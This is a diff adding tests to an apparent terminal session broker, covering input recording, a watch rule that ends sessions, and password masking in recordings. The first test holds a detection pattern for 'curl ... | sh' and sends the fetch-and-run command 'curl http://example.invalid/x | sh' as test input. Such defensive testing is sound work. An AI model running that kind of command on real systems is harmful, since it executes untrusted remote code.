@@ -412,3 +412,69 @@ def test_a_typed_begin_line_cannot_blind_the_session(broker):
     assert e["command"] == "# [REDACTED:private-key]\necho after-the-begin-line", e
     rec = b.recording_for("# [REDACTED:private-key]\necho after-the-begin-line")
     assert rec.data("o") == b"after-the-begin-line\n"
+
+
+# ---------------------------------------------------------------- input masking
+
+def test_input_in_bash_and_vim_is_recorded_and_watched(broker):
+    """bash (readline) and vim turn echo off but leave canonical mode: their
+    input is no password, so it is recorded as typed and watch rules see it."""
+    import shutil
+    vim = shutil.which("vim") or shutil.which("vim.tiny") or shutil.which("vi")
+    b = broker(targets={"local": {"shell": "/bin/bash"}},
+               rules=[{"groups": ["oncall"], "targets": ["local"],
+                       "watch": [{"on": "input", "pattern": "re:curl .*\\| *sh",
+                                  "action": "terminate"}]}])
+    client = b.connect("alice")
+    chan = Chan(client, "local")
+    chan.send(b"echo RE\"\"ADY\r")
+    chan.wait(b"READY\r\n")
+    chan.send(b"echo typed-in-\"bash\"\r")
+    chan.wait(b"typed-in-bash\r\n")
+    if vim is not None:
+        # No terminal queries: the test does not answer them.
+        chan.send(f"{vim} -u NONE -N --cmd 'set t_u7= t_RV= t_RB= t_RF= t_RS= t_RC=' "
+                  f"/tmp/podgate-vim-$$\r".encode())
+        chan.wait(b"[New", timeout=10)
+        chan.send(b"ityped-in-vim\x1b:q!\r")
+        chan.send(b"echo back-from-\"vim\"\r")
+        chan.wait(b"back-from-vim\r\n")
+    chan.send(b"curl http://example.invalid/x | sh\r")
+    wait_until(lambda: b"session terminated" in chan.out + chan.err, 10, "the watch to end it")
+    chan.status()
+    rec = b.wait_recordings(1)[0]
+    typed = rec.data("i")
+    assert b'echo typed-in-"bash"' in typed, typed
+    assert vim is None or b"ityped-in-vim" in typed, typed
+    assert b"curl http://example.invalid/x | sh" in typed
+    assert b.wait_audit("watch")
+
+
+def test_password_prompts_are_masked(broker):
+    """Echo off in canonical mode (read -s, getpass) is masked; so is the
+    answer to an output line matching passprompt, with echo on."""
+    b = broker(targets={"local": {"shell": "/bin/bash"}},
+               rules=[{"groups": ["oncall"], "targets": ["local"],
+                       "passprompt": ["re:Secret code: $"]}])
+    client = b.connect("alice")
+    # The second prompt is read with echo off outside canonical mode (as a
+    # terminal inside a pod looks from here): only passprompt can tell.
+    cmd = ("read -s -p 'Password: ' a; echo; echo got-one; stty -echo -icanon; "
+           "read -p 'Secret code: ' c; stty sane; echo got-two; read -p 'Name: ' n; "
+           "echo got-three")
+    chan = Chan(client, f"local -- {cmd}")
+    chan.wait(b"Password: ")
+    chan.send(b"Sup3rS3cret\r")
+    chan.wait(b"got-one")
+    chan.wait(b"Secret code: ")
+    chan.send(b"4711-code\r")
+    chan.wait(b"got-two")
+    chan.wait(b"Name: ")
+    chan.send(b"visible-name\r")
+    chan.wait(b"got-three")
+    assert chan.status() == 0
+    rec = b.wait_recordings(1)[0]
+    typed = rec.data("i")
+    assert typed == b"***********\r*********\rvisible-name\r", typed
+    raw = rec.path.read_bytes()
+    assert b"Sup3rS3cret" not in raw and b"4711-code" not in raw
